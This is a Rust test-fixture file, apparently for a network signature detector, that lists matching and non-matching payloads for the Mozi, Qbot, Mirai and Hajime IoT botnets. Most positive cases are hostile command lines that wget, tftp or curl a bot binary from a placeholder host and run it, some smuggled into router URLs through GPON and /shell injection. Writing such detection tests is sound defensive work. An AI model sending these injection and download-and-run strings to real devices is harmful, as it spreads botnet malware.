//! Payloads that identify a family.

use super::{Case, case};

pub(super) fn cases() -> Vec<Case> {
    vec![
        case(
            "mozi/1",
            [
                b"GET /shell?cd+/tmp;wget+http://192.0.2.1:4711/Mozi.a;sh+Mozi.a HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n",
                b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\nXWebPageName=diag&dest_host=``;wget+http://192.0.2.1/Mozi.m+-O+x",
                b"GET /x?c=wget%20http:%2F%2F192.0.2.1%2FMozi.m%20-O%20y HTTP/1.1\r\n",
            ],
            [
                b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
                b"GET /Mozi.manual HTTP/1.1\r\n\r\n",
                b"GET /?c=wget+http://192.0.2.1/AMozi.m HTTP/1.1\r\n\r\n",
                b"GET /mozi HTTP/1.1\r\n\r\n",
            ],
        ),
        case(
            "qbot-echo/1",
            [
                b"/bin/busybox;echo -e 'gayfgt'\r\n",
                b"/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'\r\n",
                b"echo -e '\\0147\\0141\\0171\\0146\\0147\\0164'\r\n",
                b"echo -e \\\\x67\\\\x61\\\\x79\\\\x66\\\\x67\\\\x74\r\n",
            ],
            [b"echo -e '\\147\\141\\171\\146\\147'\r\n", b"echo agayfgtb\r\n", b"echo -e '\\x67\\x61\\x79'\r\n"],
        ),
        case(
            "qbot-name/1",
            [
                b"cd /tmp; wget http://192.0.2.1/Corona.x86; sh Corona.x86",
                b"cd /tmp; tftp -g -r cayosin.sh 192.0.2.1",
                b"cd /tmp; curl http://192.0.2.1/bins/bins.demon-mips -O",
                b"cd /tmp; wget http://192.0.2.1/Love",
                b"GET / HTTP/1.1\r\nUser-Agent: Cayosin/2.0\r\n\r\n",
            ],
            [
                b"cd /tmp; wget http://192.0.2.1/daemon.sh",
                b"cd /tmp; wget http://192.0.2.1/glove.mips",
                b"cd /tmp; wget http://192.0.2.1/Corona/x86",
                b"GET /Demon HTTP/1.1\r\nUser-Agent: Lovely/1.0\r\n\r\n",
                b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Love)\r\n\r\n",
            ],
        ),
        case(
            "mirai-busybox/1",
            [b"enable\r\nsh\r\n/bin/busybox MIRAI\r\n", b"/bin/busybox ps; /bin/busybox ECCHI\r\n"],
            [b"/bin/busybox mirai\r\n", b"/bin/busybox MIRAIS\r\n", b"echo MIRAI\r\n", b"/bin/busybox TOKEN\r\n"],
        ),
        case(
            "mirai-file/1",
            [
                b"/bin/busybox wget http://192.0.2.1/bins/mirai.arm7 -O x",
                b"GET /shell?/bin/busybox+tftp+-g+-r+mirai.mpsl+192.0.2.1 HTTP/1.1\r\n\r\n",
                b"wget http://192.0.2.1/mirai.x86_64;",
            ],
            [
                b"wget http://192.0.2.1/mirai.html",
                b"wget http://192.0.2.1/mirai.mips/index",
                b"wget http://192.0.2.1/amirai.mips",
                b"GET /mirai.mips HTTP/1.1\r\n\r\n",
            ],
        ),
        case(
            "mirai-user-agent/1",
            [
                b"GET / HTTP/1.1\r\nUser-Agent: Hello, World\r\n\r\n",
                b"POST /x HTTP/1.1\r\nHost: x\r\nuser-agent: Hello World\r\n\r\n",
                b"GET / HTTP/1.1\r\nUser-Agent: Hakai/2.0\r\n\r\n",
                b"GET / HTTP/1.1\r\nUser-Agent: APEP/2.0\r\n",
                b"GET / HTTP/1.1\r\nUser-Agent: OSIRIS/2.0\r\n\r\n",
                b"GET / HTTP/1.1\r\nUser-Agent: Katana/2.0\r\n\r\n",
            ],
            [
                b"GET /hello HTTP/1.1\r\nUser-Agent: Hello, World of Things\r\n\r\n",
                b"GET /?Hakai/2.0 HTTP/1.1\r\nUser-Agent: curl/8.0\r\n\r\n",
                b"GET / HTTP/1.1\r\nUser-Agent: Katanas/1\r\n\r\n",
                b"GET / HTTP/1.1\r\nX: y\r\n\r\nUser-Agent: Hello, World\r\n",
            ],
        ),
        case(
            "hajime-file/1",
            [
                b"cd /tmp; wget http://192.0.2.1:4711/.i.arm7 -O .i; chmod 755 .i",
                b"tftp -g -r atk.mipseb 192.0.2.1",
                b"wget http://192.0.2.1/atk.arm5le.1476000000",
            ],
            [
                b"cd /tmp; wget http://192.0.2.1/.i",
                b"wget http://192.0.2.1/i.arm7",
                b"wget http://192.0.2.1/atk.sh",
                b"wget http://192.0.2.1/x?.i.arm7",
            ],
        ),
    ]
}
